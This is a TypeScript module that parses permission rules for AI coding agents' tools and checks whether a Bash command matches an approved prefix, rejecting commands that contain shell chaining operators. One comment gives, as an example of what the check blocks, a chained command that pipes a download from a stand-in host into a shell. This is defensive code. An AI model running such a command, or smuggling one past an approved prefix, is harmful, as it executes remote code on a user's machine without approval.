// A permission rule as Claude Code and wave-agent users write them: a tool name (`Bash`, `click`), or a tool name
// with a specifier: `Bash(npm test)` matches that exact command, `Bash(git status:*)` any command that starts with
// `git status`.

export interface PermissionRule {
  readonly tool: string
  readonly specifier?: { readonly text: string; readonly prefix: boolean }
}

export const parseRule = (raw: string): PermissionRule => {
  const open = raw.indexOf("(")
  if (open <= 0 || !raw.endsWith(")")) return { tool: raw }
  const inner = raw.slice(open + 1, -1)
  const prefix = inner.endsWith(":*")
  return { tool: raw.slice(0, open), specifier: { text: prefix ? inner.slice(0, -2) : inner, prefix } }
}

/** The text a specifier is matched against: Bash's command line; other tools take no specifier. */
const subjectOf = (tool: string, input: unknown): string | undefined => {
  if (tool !== "Bash" || typeof input !== "object" || input === null) return undefined
  const command = (input as { command?: unknown }).command
  return typeof command === "string" ? command.trim() : undefined
}

/** Shell operators that would let a prefix-approved command run something else after it. */
const CHAINING = /[;&|`\n]|\$\(|>|</

export const ruleMatches = (rule: PermissionRule, tool: string, input: unknown): boolean => {
  if (rule.tool !== tool) return false
  if (rule.specifier === undefined) return true
  const subject = subjectOf(tool, input)
  if (subject === undefined) return false
  if (!rule.specifier.prefix) return subject === rule.specifier.text
  // `Bash(git status:*)` must not approve `git status; curl evil | sh`.
  return (subject === rule.specifier.text || subject.startsWith(`${rule.specifier.text} `)) && !CHAINING.test(subject)
}
